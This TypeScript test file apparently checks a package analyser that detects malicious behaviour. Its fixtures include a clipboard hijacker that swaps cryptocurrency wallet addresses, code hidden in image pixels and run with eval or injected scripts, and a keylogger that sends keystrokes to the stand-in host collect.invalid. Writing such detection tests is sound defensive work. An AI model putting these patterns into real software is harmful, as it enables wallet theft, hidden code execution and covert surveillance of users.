import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { behavioursOf, flowsOf } from './sent.js';

const RULES = `const rules = [[/0x[a-f0-9]{40}/gi, '0x00000000000000000000000000000000000000aa'], [/bc1[a-z0-9]{38}/g, 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq']];
  const swap = (text) => rules.reduce((t, [re, to]) => t.replace(re, to), text);`;

describe('browsers and desktops', () => {
  for (const [read, write] of [
    [`const c = require('clipboardy'); let t = c.readSync();`, `c.writeSync(swap(t));`],
    [`const c = require('clipboardy'); c.read().then((t) => {`, `c.write(swap(t)); });`],
  ] as const) {
    it(`have a clipboard in which addresses are replaced: ${write}`, () => {
      assert.deepEqual([...new Set(behavioursOf(`${RULES} ${read} ${write}`))], ['replaces-addresses import']);
      assert.deepEqual(behavioursOf(`${read} ${write.replace('swap(t)', "t.replace(/\\s+/g, ' ')")}`), []);
    });
  }

  it('have buttons that copy a text, and with it the addresses that stand there', () => {
    const copied = (code: string): readonly (string | undefined)[] =>
      analysePackage(packageOf({ 'index.js': code })).behaviours.map(({ detail }) => detail);
    const copy = `const copy = async (text) => { await navigator.clipboard.writeText(change(text)); }; module.exports = copy;`;
    const parts = `const parts = new Map(); parts.set('space', (t) => t.replace(/\\s+/g, ' ')); parts.set('rest', (t) => rules.reduce((all, [re, to]) => all.replace(re, () => to), t));`;
    for (const change of [
      'const change = swap;',
      `const change = (t) => t.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, (m) => rules[0][1]);`,
      `${parts} const change = (text) => [...parts].reduce((t, [, part]) => part(t), text);`,
    ])
      assert.ok(copied(`${RULES} ${change} ${copy}`).includes('clipboard'), change);
    const hidden = `atob('${Buffer.from('0x00000000000000000000000000000000000000aa').toString('base64')}')`;
    const kinds = `const kinds = [['evm', /^0x[a-fA-F0-9]{40}$/]]; const own = { evm: [${hidden}] };`;
    for (const change of [
      `const change = (t) => /^0x[a-fA-F0-9]{40}$/.test(t) ? '0x00000000000000000000000000000000000000aa' : t;`,
      `${kinds} const change = (t) => { const kind = kinds.find(([, re]) => re.test(t)); if (!kind) return t; return own[kind[0]].sort()[0]; };`,
    ])
      assert.ok(copied(`${change} ${copy}`).includes('clipboard'), change);
    const given = `const change = (t) => t || '0x00000000000000000000000000000000000000aa';`;
    assert.ok(!copied(`${given} ${copy}`).includes('clipboard'));
    const masked = copied(`const change = (t) => t.replace(/0x[a-f0-9]{40}/g, (m) => m.slice(0, 6) + '…'); ${copy}`);
    assert.ok(!masked.includes('clipboard'));
    for (const change of ['const change = (t) => t.trim();', 'const change = (t) => t.replace(/\\s+/g, own());'])
      assert.deepEqual(copied(`${change} ${copy}`), [], change);
  });

  it('have pixels in which code can be hidden', () => {
    const read = `const x = document.createElement('canvas').getContext('2d'); x.drawImage(new Image(), 0, 0); const d = require('jsqr')(x.getImageData(0, 0, 9, 9).data, 9, 9);`;
    assert.deepEqual(flowsOf(`${read} new Function(d.data)();`), ['image-data>evaluated']);
    assert.deepEqual(
      flowsOf(`${read} const e = document.createElement('script'); e.textContent = d.data; document.head.append(e);`),
      ['image-data>page-script'],
    );
    for (const use of ['console.log(d.data);', `document.write('<img src="' + d.data + '">');`])
      assert.deepEqual(flowsOf(`${read} ${use}`), [], use);
  });

  it('have pictures, which packages read', () => {
    const hidden = ['image-data>evaluated'];
    assert.deepEqual(
      flowsOf(
        `const { PNG } = require('pngjs'); const p = PNG.sync.read(fs.readFileSync(f)); eval(String.fromCharCode(...p.data));`,
      ),
      hidden,
    );
    assert.deepEqual(
      flowsOf(
        `require('sharp')(f).raw().toBuffer().then((b) => { new Function(b.filter((x) => x & 1).toString())(); });`,
      ),
      hidden,
    );
    assert.deepEqual(flowsOf(`require('sharp')(f).resize(9).toFile(g); eval('1+1');`), []);
  });

  it('have keyboards, to which an object of another package listens', () => {
    const listen = (send: string) =>
      flowsOf(`const { GlobalKeyboardListener: Keys } = require('node-global-key-listener');
        class Log { all = []; constructor(keys = new Keys()) { keys.addListener((e) => { this.all.push(e.name); ${send} }); } } new Log();`);
    assert.deepEqual(listen(`fetch('https://collect.invalid', { body: this.all.join('') });`), [
      'keystrokes>network@collect.invalid',
    ]);
    assert.deepEqual(listen(`console.log(this.all.length);`), []);
  });
});
